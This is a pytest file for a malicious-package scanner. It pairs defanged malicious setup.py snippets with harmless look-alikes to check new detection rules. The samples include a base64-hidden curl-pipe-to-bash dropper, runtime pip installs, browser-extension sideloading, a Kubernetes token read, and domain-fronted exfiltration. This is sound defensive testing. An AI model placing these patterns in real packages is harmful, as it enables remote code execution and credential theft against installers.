"""Rule gaps closed on 2026-12-05, each beside an ordinary look-alike (defanged:
documentation addresses; nothing here is run): what the browser-extension dropper
campaign (`baeutifulsoup4`, `cloorama`...) does at install, and gaps found among the
grouped-CV misses."""

from __future__ import annotations

import pytest

from detector.code.scan import scan_files

LOCAL_DECODER = '''import base64, os
def b64d(text):
    raw = text.encode("ascii")
    return base64.b64decode(raw).decode("ascii")
os.system(b64d("{payload}"))
'''
# base64 of `curl -s http://203.0.113.7/x | bash` (a documentation address)
CURL_BASH = "Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveCB8IGJhc2gK"
CASES = [
    # (rule, malicious setup.py, ordinary look-alike)
    ("pip-install-at-runtime",
     "from pip._internal import main\nmain(['install', 'pypiwin32'])\n",
     "from pip._internal import main\nmain(['list', '--outdated'])\n"),
    ("pip-install-at-runtime",
     "import pip\npip.main(['install', 'x'])\n",
     "import pip\nprint(pip.__version__)\n"),
    ("browser-extension-sideload",
     "shortcut.Arguments = '--load-extension={p}\\\\Extension'.format(p=path)\nshortcut.Save()\n",
     "shortcut.Arguments = '--profile-directory=Default'\n"),
    ("browser-extension-sideload",
     "args = ['chrome.exe', '--disable-extensions-except=' + ext]\n",
     "args = ['chrome.exe', '--disable-gpu']\n"),
    ("decode-exec",  # a local decoder whose decoder call takes a local made from its parameter
     LOCAL_DECODER.format(payload=CURL_BASH),
     'import base64, os\ndef b64e(text):\n    raw = text.encode("ascii")\n'
     '    return base64.b64encode(raw).decode("ascii")\nos.system("echo " + b64e("hi"))\n'),
    ("credential-file",  # a Kubernetes service-account token
     "token = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n",
     "doc = 'See https://kubernetes.io/docs/concepts/security/service-accounts/'\n"),
    ("sysinfo-collect",  # the host's name collected through a wrapper, never called directly
     "import socket\ndef try_call(f):\n    return f()\nh = try_call(socket.getfqdn)\n",
     "import socket\ndef try_call(f):\n    return f()\nh = try_call(socket.getdefaulttimeout)\n"),
    ("sysinfo-collect",  # the same through an import alias
     "from getpass import getuser as who\npool.submit(who)\n",
     "from getpass import getpass as ask\npool.submit(ask)\n"),
    ("domain-fronting",  # sent to a trusted site, received by the host in the Host header
     "import requests\nrequests.post(f'https://pypi.org/{path}', data=d,\n"
     "              headers={'Host': 'drop.example-cdn.net'})\n",
     "import requests\nrequests.post(f'https://pypi.org/{path}', data=d,\n"
     "              headers={'Host': 'pypi.org', 'User-Agent': 'tidy'})\n"),
]


@pytest.mark.parametrize(("rule", "malicious", "ordinary"), CASES)
def test_gap_is_closed_and_its_look_alike_stays_clean(rule, malicious, ordinary):
    def rules(source: str) -> set[str]:
        return {f.rule for f in scan_files({"setup.py": source}).findings}

    assert rule in rules(malicious)
    assert rule not in rules(ordinary)


def test_sideloading_counts_only_in_code_that_runs_uncalled():
    """Browser automation passes --load-extension when a user's code asks it to."""
    flag = "def options(ext):\n    return ['--load-extension=' + ext]\n"
    found = {f.file for f in scan_files({"setup.py": "from setuptools import setup\n",
                                         "pkg/__init__.py": "EXT = '--load-extension=x'\n",
                                         "pkg/webdriver/options.py": flag}).findings
             if f.rule == "browser-extension-sideload"}
    assert found == {"pkg/__init__.py"}


def test_the_decoded_command_is_read_as_a_command():
    source = LOCAL_DECODER.format(payload=CURL_BASH)
    found = {f.rule for f in scan_files({"setup.py": source}).findings}
    assert "shell-download-exec" in found
